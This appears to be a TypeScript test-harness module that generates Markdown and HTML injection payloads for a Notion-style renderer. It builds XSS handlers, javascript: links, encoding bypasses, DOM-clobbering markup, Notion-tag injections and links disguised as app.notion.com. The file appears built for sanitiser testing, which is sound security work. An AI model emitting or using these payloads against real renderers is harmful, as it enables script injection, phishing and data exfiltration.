import { pairs } from './payload.ts';
import type { Family, Maker, Mark } from './payload.ts';

/** A few that run or fetch anywhere, to be hidden and wrapped in all ways. */
const BASES: readonly Maker[] = [
  ({ js }) => `<img src=x onerror="${js}">`,
  ({ js }) => `<script>${js}</script>`,
  ({ js }) => `<svg onload="${js}">`,
  ({ js }) => `[press](javascript:${js})`,
  ({ url }) => `![logo](${url})`,
  ({ url }) => `<iframe src="${url}">`,
];

const each = (text: string, write: (code: number, letter: string) => string): string =>
  Array.from(text, (letter) => write(letter.codePointAt(0) ?? 0, letter)).join('');

/** Encodings that a renderer may undo once too often. */
const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => each(text, (code) => `&#${code};`),
  (text) => each(text, (code) => `&#x${code.toString(16)};`),
  (text) => each(text, (code) => `&#${String(code).padStart(7, '0')};`),
  (text) => each(text, (code) => `&#${code} `),
  (text) => each(text, (code) => `%${code.toString(16).padStart(2, '0')}`),
  (text) => each(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
  (text) => each(text, (code) => `\\x${code.toString(16).padStart(2, '0')}`),
  (text) => each(text, (code) => (code < 0x80 ? String.fromCodePoint(0xe0000 + code) : '')),
  (text) => each(text, (code, letter) => (/[!-~]/u.test(letter) ? String.fromCodePoint(code + 0xfee0) : letter)),
  (text) => each(text, (_code, letter) => `${letter}\u{200b}`),
  (text) => each(text, (_code, letter) => (/[<>"'&]/u.test(letter) ? `\\${letter}` : letter)),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => text.replaceAll('<', '&LT').replaceAll('>', '&GT'),
  (text) => text.replaceAll('<', '&#60').replaceAll('>', '&#62'),
  (text) => text.replaceAll('<', '\u{2039}').replaceAll('>', '\u{203a}'),
  (text) => `+ADw-${text.slice(1, -1)}+AD4-`,
  (text) => Buffer.from(text).toString('base64'),
  (text) => `\u{202e}${Array.from(text).toReversed().join('')}\u{202c}`,
  (text) => `\u{1b}]8;;${text}\u{7}link\u{1b}]8;;\u{7}`,
];

/** Everything of Markdown that can stand around something else. `n` keeps names apart. */
const WRAPPERS: readonly ((inner: string, mark: Mark) => string)[] = [
  (inner) => `> ${inner}`,
  (inner) => `> > > ${inner}`,
  (inner) => `- ${inner}`,
  (inner) => `- [x] ${inner}`,
  (inner) => `1. ${inner}\n   - ${inner}\n     > ${inner}`,
  (inner) => `###### ${inner}`,
  (inner) => `${inner}\n===`,
  (inner) => `**${inner}**`,
  (inner) => `***~~${inner}~~***`,
  (inner) => `\`${inner}\``,
  (inner) => `\`\`\`html\n${inner}\n\`\`\``,
  (inner) => `\`\`\`mermaid\ngraph TD; A["${inner}"]-->B\n\`\`\``,
  (inner) => `\`\`\`"><b>\n${inner}\n\`\`\``,
  (inner) => `    ${inner}`,
  (inner) => `| a | ${inner.replaceAll('|', '\\|')} |\n| - | - |\n| ${inner.replaceAll('|', '\\|')} | b |`,
  (inner) => `[${inner}](https://app.notion.com/)`,
  (inner) => `[press](https://app.notion.com/ "${inner.replaceAll('"', '&quot;')}")`,
  (inner) => `![${inner}](https://app.notion.com/x.png)`,
  (inner, { n }) => `[press][n${n}]\n\n[n${n}]: https://app.notion.com/ "${inner.replaceAll('"', "'")}"`,
  (inner, { n }) => `a[^${n % 9}]\n\n[^${n % 9}]: ${inner}`,
  (inner) => `$$${inner}$$`,
  (inner) => `$\\href{javascript:1}{${inner}}$`,
  (inner) => `<details>\n<summary>more</summary>\n\n${inner}\n\n</details>`,
  (inner) => `<div>\n\n${inner}\n\n</div>`,
  (inner) => `<!-- ${inner} -->`,
  (inner) => `<!--\n\n${inner}\n\n-->`,
  (inner) => `:::warning\n${inner}\n:::`,
  (inner) => `\\${inner}`,
  (inner) => `${'> '.repeat(40)}${inner}`,
  (inner) => `${'*'.repeat(60)}${inner}${'*'.repeat(60)}`,
  (inner) => `${'['.repeat(60)}${inner}${']'.repeat(60)}(https://app.notion.com/)`,
];

/** Names that would stand before those of the page and of the extension, and keys that would poison an object. */
const CLOBBERED =
  'body head forms cookie domain location origin parent top self name attributes children chrome browser understudy';
const CLOBBERING: readonly ((name: string) => string)[] = [
  (name) => `<a id="${name}"></a><a id="${name}" name="runtime" href="javascript:1">x</a>`,
  (name) => `<form id="${name}"><input name="attributes"><input name="${name}"></form>`,
  (name) => `<img name="${name}"><iframe name="${name}" srcdoc="x"></iframe>`,
  (name) => `# ${name} {#${name} .x onclick="1" __proto__=x}`,
];

/** Links that are not what they say: each is shown with its real host, or is no link. */
const DISGUISED: readonly ((host: string, path: string) => string)[] = [
  (host, path) => `[https://app.notion.com/p/launch](https://${host}${path})`,
  (host, path) => `[app.notion.com](https://app.notion.com@${host}${path})`,
  (host, path) => `[press](https://app.notion.com%2F@${host}${path})`,
  (host, path) => `[press](https://app.notion.com:443@${host}${path})`,
  (host, path) => `[press](https://app.notion.com\\@${host}${path})`,
  (host, path) => `[press](https://app.notion.com.${host}${path})`,
  (host, path) => `[press](https://${'app.notion.com.'.repeat(12)}${host}${path})`,
  (host, path) => `[press](https://${host}/${'%20'.repeat(900)}${path})`,
  (host, path) => `[\u{202e}moc.noiton.ppa](https://${host}${path})`,
  (host, path) => `[app.notion.com\u{2066}](https://${host}${path})`,
  (host, path) => `[app\u{ad}.not\u{200b}ion.com](https://${host}${path})`,
  (host, path) => `[app.notion.com](https://${host}\u{202e}moc.noiton.ppa${path})`,
  (host, path) => `[press](https://app.n\u{43e}tion.com.${host}${path})`,
  (host, path) => `[press](https://xn--ntion-9je.com.${host}${path})`,
  (host, path) => `[press](https://app.notion\u{3002}com.${host}${path})`,
  (host, path) => `[press](https://${host.toUpperCase()}${path})`,
  (host, path) => `[press](https://${host}.${path})`,
  (host, path) => `[press](https://${host}:8443${path})`,
  (host, path) => `[press](HTTPS://${host}${path})`,
  (host, path) => `[press](https:${host}${path})`,
  (host, path) => `[press](https:///${host}${path})`,
  (host, path) => `[press](https://\t${host}${path})`,
  (host, path) => `[press](https://2130706433/${host}${path})`,
  (host, path) => `[press](https://0x7f.1/${host}${path})`,
  (host, path) => `[press](https://[::ffff:127.0.0.1]/${host}${path})`,
  (host, path) => `<https://${host}${path}>`,
  (host, path) => `https://${host}${path}`,
  (host, path) => `www.${host}${path}`,
  (host, path) => `[](https://${host}${path})`,
  (host, path) => `[ ](https://${host}${path})`,
  (host, path) => `[**app.notion.com**](https://${host}${path})`,
  (host, path) => `[\`https://app.notion.com\`](https://${host}${path})`,
  (host, path) => `[https://app.notion.com/](https://${host}${path} "https://app.notion.com/")`,
  (host, path) => `[^1](https://${host}${path})`,
  (host, path) => `[Source 1](https://${host}${path})`,
  (host, path) => `[Approve](https://${host}${path})`,
];

/** Notion's own dialect, in which an answer may be written. */
const NOTION: readonly Maker[] = [
  ({ js }) => `<callout icon="<img src=x onerror='${js}'>">x</callout>`,
  ({ url }) => `<callout icon="${url}" color="red">x</callout>`,
  ({ url }) => `<image source="${url}">x</image>`,
  ({ url }) => `<file src="${url}">x</file>`,
  ({ url }) => `<embed url="${url}">x</embed>`,
  ({ url }) => `<bookmark url="${url}">x</bookmark>`,
  ({ url }) => `<mention-page url="${url}">Launch plan</mention-page>`,
  ({ js }) => `<mention-user url="javascript:${js}">Ann</mention-user>`,
  ({ js }) => `<mention-date start="<img src=x onerror='${js}'>"/>`,
  ({ url }) => `<page url="${url}" icon="${url}">x</page>`,
  ({ url }) => `<database url="${url}" inline="true">x</database>`,
  ({ js }) => `<span color="red;background:url(x)" onclick="${js}">x</span>`,
  ({ js }) => `# x {color="red" onmouseover="${js}"}`,
  ({ js }) => `<equation>\\href{javascript:${js}}{x}</equation>`,
  ({ url }) => `<synced_block url="${url}">x</synced_block>`,
  ({ js }) => `<unknown url="javascript:${js}" alt="<script>${js}</script>"/>`,
];

export const MARKDOWN_FAMILIES: readonly Family[] = [
  {
    name: 'entities and encodings',
    makers: pairs(ENCODINGS, BASES).map(
      ([encode, base]): Maker =>
        (mark) =>
          encode(base(mark)),
    ),
  },
  {
    name: 'nested Markdown',
    makers: pairs(WRAPPERS, BASES).map(
      ([wrap, base]): Maker =>
        (mark) =>
          wrap(base(mark), mark),
    ),
  },
  {
    name: 'clobbering',
    makers: pairs(CLOBBERED.split(' '), CLOBBERING).map(
      ([name, write]): Maker =>
        () =>
          write(name),
    ),
  },
  {
    name: 'disguised links',
    makers: DISGUISED.map((write): Maker => ({ url }) => {
      const { host, pathname, search } = new URL(url);
      return write(host, pathname + search);
    }),
  },
  { name: 'Notion’s own tags', makers: NOTION },
];
